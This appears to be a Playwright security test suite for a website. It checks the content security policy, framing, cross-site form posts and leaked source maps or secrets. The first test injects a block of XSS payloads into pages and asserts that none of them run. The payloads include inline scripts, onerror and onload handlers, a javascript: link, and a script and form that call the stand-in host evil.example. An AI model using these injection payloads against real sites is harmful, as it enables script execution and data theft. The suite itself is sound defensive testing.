import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test as base, expect } from '@playwright/test';
import { artifactUrl } from '@site/composer';
import { artifactOrigin, parseManifest } from '@site/registry';
import { isDescription, SOURCE_MAPS_FILE } from '@site/section-kit/contract';
import { watchPage } from '@site/smoke/watch-page';
import { listening } from '../../kit/network/listening.ts';
import { PATHS } from '../../kit/routes.ts';
import { root } from '../../kit/run-command.ts';
import { ARTIFACTS } from '../../kit/test-site.ts';

const test = base.extend<{ foreign: (html: string) => Promise<string> }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures a fixture needs from this pattern
  foreign: async ({}, use) => {
    const stops: (() => Promise<void>)[] = [];
    await use(async (html) => {
      const { url, stop } = await listening((_request, response) =>
        response
          .writeHead(200, { 'Content-Type': 'text/html' })
          .end(`<!doctype html><title>x</title>${html}`),
      );
      stops.push(stop);
      return `${url}/`;
    });
    for (const stop of stops) await stop();
  },
});

test('markup that an attacker got into a page runs no script and loads nothing', async ({
  page,
  baseURL,
}) => {
  for (const path of ['/', '/resources/insights']) {
    const response = await page.goto(path);
    const policy = response!.headers()['content-security-policy']!;
    expect(policy).not.toMatch(/unsafe-(?:inline|eval)|strict-dynamic|\*/);
    const hostile = `
      <script>window.ran = 'inline'</script>
      <script src="https://evil.example/x.js"></script>
      <script type="module">window.ran = 'module'</script>
      <img src="/no-such-picture" onerror="window.ran = 'onerror'">
      <svg onload="window.ran = 'onload'"></svg>
      <iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>
      <a id="js" href="javascript:window.ran='javascript:'">x</a>
      <form id="away" action="https://evil.example/collect"><button>x</button></form>
      <base href="https://evil.example/">`;
    await page.route(`${baseURL}${path}`, async (route) => {
      const served = await route.fetch();
      const body = (await served.text()).replace('</main>', `${hostile}</main>`);
      await route.fulfill({ response: served, body });
    });
    await page.goto(path, { waitUntil: 'load' });
    await page.evaluate(() => {
      document.querySelector<HTMLAnchorElement>('#js')!.click();
      document.querySelector<HTMLFormElement>('#away')!.requestSubmit();
    });
    await page.waitForTimeout(150);
    const found = await page.evaluate(() => ({
      ran: (window as unknown as { ran?: string }).ran,
      base: document.baseURI,
      host: location.host,
    }));
    expect([path, found]).toEqual([
      path,
      { ran: undefined, base: `${baseURL}${path}`, host: new URL(baseURL!).host },
    ]);
    await page.unroute(`${baseURL}${path}`);
  }
});

test('a script from this site’s own origin cannot make code or markup from a string', async ({ page }) => {
  await page.goto('/');
  const done = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        // In its own task: Playwright's evaluation is outside of the policy.
        setTimeout(() => {
          const attempts: [string, () => unknown][] = [
            ['Function', () => new Function('return 1')()],
            ['innerHTML', () => (document.createElement('div').innerHTML = '<img src="x">')],
            ['document.write', () => document.write('<p>x</p>')],
          ];
          resolve(
            attempts.flatMap(([name, attempt]) => {
              try {
                attempt();
                return [name];
              } catch {
                return [];
              }
            }),
          );
        });
      }),
  );
  expect(done).toEqual([]);
});

test('no page can be framed by another site', async ({ page, foreign, baseURL }) => {
  const address = await foreign(`<iframe src="${baseURL}/"></iframe>`);
  await page.goto(address);
  await page.waitForTimeout(250);
  const frame = page.frames()[1]!;
  expect(await frame.evaluate(() => document.body.innerText).catch(() => '')).not.toContain('FinOps');
});

test('another site cannot post a lead by script or by form, nor read a response', async ({
  page,
  foreign,
  baseURL,
}) => {
  const fields = ['name', 'email', 'company']
    .map((name) => `<input name="${name}" value="x@example.com">`)
    .join('');
  const address = await foreign(`<form method="post" action="${baseURL}/api/leads">${fields}</form>`);
  await page.goto(address);
  const results = await page.evaluate(async (api) => {
    const body = JSON.stringify({ name: 'x', email: 'x@example.com' });
    const tries: RequestInit[] = [
      { method: 'POST', body, headers: { 'Content-Type': 'application/json' }, credentials: 'include' },
      { method: 'POST', body, headers: { 'Content-Type': 'text/plain' } },
      { method: 'GET' },
    ];
    return Promise.all(
      tries.map((one) =>
        fetch(api, one).then(
          (response) => `read ${response.status}`,
          () => 'blocked',
        ),
      ),
    );
  }, `${baseURL}/api/leads`);
  expect(results).toEqual(['blocked', 'blocked', 'blocked']);
  const responded = page.waitForResponse(`${baseURL}/api/leads`);
  await page.evaluate(() => document.querySelector('form')!.submit());
  expect((await responded).status()).toBe(403);
});

test('nothing published contains a source map, a secret or a name of the build machine', async ({
  request,
}) => {
  const live = await (await request.get('/_live.json')).json();
  const seen = new Set<string>();
  const queue = [live.shell, JSON.stringify(live)].join();
  for (const path of PATHS) {
    const html = await (await request.get(path)).text();
    for (const [address] of `${html}${queue}`.matchAll(/\/_sections\/[a-z0-9./_-]+\.(?:js|css)/gi))
      seen.add(address);
    expect([path, html]).toEqual([
      path,
      expect.not.stringMatching(/sourceMappingURL|PREVIEW_SECRET|\/(?:home|root|Users)\//),
    ]);
  }
  expect(seen.size).toBeGreaterThan(5);
  for (const address of seen) {
    const response = await request.get(address);
    expect([address, response.status()]).toEqual([address, 200]);
    const text = await response.text();
    expect([address, text.match(/sourceMappingURL=|new Function\(|\/(?:home|root|Users)\/\w+/g)]).toEqual([
      address,
      null,
    ]);
    expect((await request.get(`${address}.map`)).status()).toBe(404);
  }
});

test('every built artifact says which packages it has and where it comes from, to tools and not to visitors', async ({
  request,
}) => {
  for (const name of ARTIFACTS) {
    const folder = join(root, name, 'dist/artifact');
    const manifest = parseManifest(readFileSync(join(folder, 'section.json'), 'utf8'));
    const { provenance, packages = [] } = await artifactOrigin({ folder, manifest });
    expect([name, packages.map((one) => one.name)]).toEqual([
      name,
      expect.arrayContaining(['react', '@site/design-system']),
    ]);
    expect(provenance).toMatchObject({ lockFile: { name: 'package-lock.json' } });
    const status = async (file: string) =>
      (await request.get(artifactUrl(manifest.name, manifest.version, file))).status();
    expect([name, await status(manifest.browser.style)]).toEqual([name, 200]);
    for (const file of Object.keys(manifest.files).filter(isDescription)) {
      expect([name, file, await status(file)]).toEqual([name, file, 404]);
      if (file === SOURCE_MAPS_FILE) continue;
      expect(readFileSync(join(folder, file), 'utf8')).not.toMatch(/\/(?:home|root|Users)\/\w+/);
    }
  }
});

test('the whole site raises no policy violation while a visitor scrolls through it @thorough', async ({
  page,
}) => {
  test.setTimeout(180_000);
  const pageErrors = await watchPage(page);
  for (const path of PATHS) {
    await page.goto(path);
    await page.mouse.wheel(0, 20_000);
  }
  expect(pageErrors.filter((text) => text.startsWith('policy') || text.startsWith('foreign'))).toEqual([]);
});
